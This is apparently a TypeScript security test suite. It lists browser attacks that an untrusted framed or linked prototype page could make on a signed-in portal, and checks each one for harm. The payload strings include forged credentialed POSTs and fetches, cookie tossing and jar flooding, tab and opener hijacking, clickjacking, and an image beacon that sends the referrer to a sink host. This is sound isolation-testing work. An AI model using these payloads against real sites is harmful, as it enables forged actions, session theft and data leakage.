import { type Attack, heard, looted, type Scene } from "./Attack.ts"
import { session } from "./Portal.ts"

/** A write that the portal took although its owner did not ask for it. */
const paid = ({ portal }: Scene): Promise<string | undefined> =>
  Promise.resolve(portal.paid.length === 0 ? undefined : `the portal did ${portal.paid.join(", ")}`)

const portalTaken = async ({ page, portal }: Scene): Promise<string | undefined> =>
  page.url().startsWith(`${portal.origin}/`) ? undefined : `the tab shows ${page.url()}`

/** The portal's tab answers, within a second, that it is still the portal. */
const portalAlive = async ({ page }: Scene): Promise<string | undefined> => {
  const title = await Promise.race([
    page.title().catch(() => "gone"),
    new Promise<string>((resolve) => setTimeout(resolve, 1000, "silent"))
  ])
  return title === "Portal" ? undefined : `the portal is ${title}`
}

/** The Cookie header that the portal gets afterwards. */
const cookieAfter = async ({ context, portal }: Scene): Promise<string> => {
  const page = await context.newPage()
  await page.goto(portal.origin)
  await page.close()
  return portal.cookies.at(-1) ?? ""
}

const post = (target: string) =>
  `const f=document.createElement("form");f.method="post";f.action="${target}/pay";document.body.append(f);f.submit()`

/** The visitor has a session with the portal. */
const signedIn: Attack["before"] = async ({ page, portal }) => void await page.goto(portal.origin)

/** What a prototype could do to the studio and to who is signed in there. */
export const againstPortal: ReadonlyArray<Attack> = ([
  {
    name: "taking over the tab",
    met: "framed",
    script: ({ sink }) => `top.location.href="${sink}/"`,
    harm: portalTaken,
    always: true
  },
  {
    name: "taking over the tab by a link",
    met: "framed",
    html: ({ sink }) => `<a id="a" target="_top" href="${sink}/">x</a>`,
    script: () => `document.getElementById("a").click()`,
    harm: portalTaken,
    always: true
  },
  {
    name: "taking over the tab by a form",
    met: "framed",
    html: ({ sink }) => `<form id="f" target="_top" action="${sink}/"></form>`,
    script: () => `document.getElementById("f").submit()`,
    harm: portalTaken,
    always: true
  },
  {
    name: "reading the portal around it",
    met: "framed",
    script: () => `take(parent.document.title)`,
    harm: looted,
    always: true
  },
  {
    name: "a flood of messages",
    met: "framed",
    script: () => `for(let i=0;i<20000;i++)parent.postMessage("x".repeat(99),"*")`,
    harm: portalAlive,
    always: true
  },
  {
    name: "a loop of alerts",
    met: "framed",
    script: () => `for(let i=0;i<5;i++)alert("Your session has ended")`,
    harm: async ({ dialogs }) => dialogs.length === 0 ? undefined : `${dialogs.length} dialogs over the portal`,
    always: true
  },
  {
    name: "asking to print the portal",
    met: "framed",
    script: () => `if(window.print()!==undefined)take("printed")`,
    harm: looted,
    always: true
  },
  {
    name: "a loop that never ends",
    met: "framed",
    script: () => `const end=Date.now()+1500;while(Date.now()<end);`,
    harm: portalAlive,
    always: true
  },
  {
    name: "a flood of history",
    met: "framed",
    script: () => `for(let i=0;i<500;i++)history.pushState(0,"","#"+i)`,
    harm: async ({ page }) => {
      const { length, title } = await page.evaluate(() => ({ length: history.length, title: document.title }))
      return title === "Portal" && length <= 50 ? undefined : `${length} entries over ${title}`
    },
    always: true
  },
  {
    name: "a full screen over the portal",
    met: "framed",
    script: () => `await document.documentElement.requestFullscreen();take("the screen")`,
    harm: looted,
    always: true
  },
  {
    name: "a download out of the portal's frame that nobody asked for",
    met: "framed",
    files: () => ({ "setup.exe": "MZ" }),
    script: () => `location.href="/setup.exe"`,
    harm: async ({ downloads }) => downloads.length === 0 ? undefined : `the browser keeps ${downloads.join()}`
  },
  {
    name: "framing the portal to steal clicks",
    html: ({ portal }) => `<iframe id="f" src="${portal}/"></iframe>`,
    script: () => `await new Promise((r)=>setTimeout(r,80))`,
    harm: async ({ page, portal }) =>
      page.frames().some((one) => one.url().startsWith(portal.origin)) ? "the portal is framed" : undefined,
    always: true
  },
  { name: "a forged form", script: ({ portal }) => post(portal), harm: paid, always: true },
  {
    name: "a forged form out of the portal's frame",
    met: "framed",
    script: ({ portal }) => post(portal),
    harm: paid,
    always: true
  },
  {
    name: "a forged request",
    script: ({ portal }) => `await fetch("${portal}/pay",{method:"POST",mode:"no-cors",credentials:"include"})`,
    harm: paid,
    always: true
  },
  {
    name: "a forged beacon",
    script: ({ portal }) => `navigator.sendBeacon("${portal}/pay","x")`,
    harm: paid,
    always: true
  },
  {
    name: "reading with the visitor's session",
    script: ({ portal }) => `take(await (await fetch("${portal}/private.js",{credentials:"include"})).text())`,
    harm: looted,
    always: true
  },
  {
    name: "including private words as a script",
    script: ({ portal }) =>
      `const s=document.createElement("script");s.src="${portal}/private.js";document.body.append(s);await new Promise((r)=>setTimeout(r,80))`,
    harm: looted,
    always: true
  },
  {
    name: "tossing a cookie to the portal",
    script: ({ portal }) =>
      `for(const d of ["localhost",".localhost","${
        new URL(portal).hostname
      }"])document.cookie="session=evil; Domain="+d+"; Path=/"`,
    harm: async (scene) => (await cookieAfter(scene)).includes("evil") ? "the portal got the tossed cookie" : undefined,
    always: true
  },
  {
    name: "putting another __Host- cookie in place",
    script: ({ portal }) =>
      `for(const d of ["","; Domain=localhost","; Domain=${
        new URL(portal).hostname
      }"])document.cookie="__Host-session=evil; Secure; Path=/"+d`,
    harm: async (scene) => {
      const cookies = await cookieAfter(scene)
      return cookies.includes(session) && !cookies.includes("evil") ? undefined : `the portal got ${cookies}`
    },
    always: true
  },
  {
    name: "a jar so full that the portal's cookies fall out",
    script: ({ domain }) =>
      `for(let i=0;i<400;i++)document.cookie="c"+i+"="+"x".repeat(9)+"; Domain=${domain}; Path=/"`,
    harm: async (scene) => (await cookieAfter(scene)).includes(session) ? undefined : "the session is gone",
    always: true
  },
  {
    name: "words kept in the window's name",
    script: ({ portal }) => `window.name="evil";location.href="${portal}/"`,
    harm: async (scene) => {
      // The going away of its own accord may still be under way.
      const look = () =>
        scene.page.goto(scene.portal.origin).then(() => scene.page.evaluate(() => window.name)).catch(() => undefined)
      for (let tries = 0; tries < 40; tries += 1) {
        const name = await look()
        if (name !== undefined) return name === "" ? undefined : `the portal's window is named ${name}`
        await scene.page.waitForTimeout(100)
      }
      return "the portal could not be looked at"
    },
    always: true
  },
  {
    name: "moving the window that opened it",
    harm: async ({ context, page, portal, targets }) => {
      const address = page.url()
      const opening = await context.newPage()
      await opening.goto(portal.origin)
      const opened = context.waitForEvent("page")
      await opening.evaluate((link) => void window.open(link), address)
      const second = await opened
      await second.waitForURL(address).catch(() => undefined)
      const reached = await second.evaluate((sink) => {
        if (window.opener === null) return false
        window.opener.location.href = sink
        return true
      }, targets.sink).catch(() => false)
      const harm = reached
        ? "the prototype has its opener"
        : opening.url().startsWith(portal.origin)
        ? undefined
        : "it was moved"
      await opening.close()
      await second.close()
      return harm
    },
    always: true
  },
  {
    name: "holding on to a portal that it opened",
    met: "clicked",
    script: ({ portal }) =>
      `addEventListener("click",async()=>{const w=open("${portal}/");await new Promise((r)=>setTimeout(r,150));if(w&&!w.closed)take("a handle on the portal")})`,
    harm: looted,
    always: true
  },
  {
    name: "a worker over the portal's pages",
    script: ({ portal }) =>
      `await navigator.serviceWorker.register("${portal}/private.js");take("a worker on the portal")`,
    harm: looted,
    always: true
  },
  {
    name: "claiming that the site is the portal's",
    script: ({ domain }) =>
      `document.domain="localhost";take(document.domain==="localhost"?"the common domain":"");loot=loot.filter(Boolean);void "${domain}"`,
    harm: looted,
    always: true
  },
  {
    name: "a picture of the portal for a canvas",
    script: ({ portal }) =>
      `const i=new Image();i.src="${portal}/private.js";await new Promise((r)=>{i.onload=i.onerror=r});if(i.width>0)take("a picture")`,
    harm: looted,
    always: true
  },
  {
    name: "telling the sink that somebody came from the portal",
    met: "framed",
    script: ({ sink }) => `const i=new Image();i.src="${sink}/?from="+encodeURIComponent(document.referrer)`,
    harm: async (scene) => heard(scene)
  }
] satisfies ReadonlyArray<Attack>).map((attack): Attack => ({ before: signedIn, ...attack }))
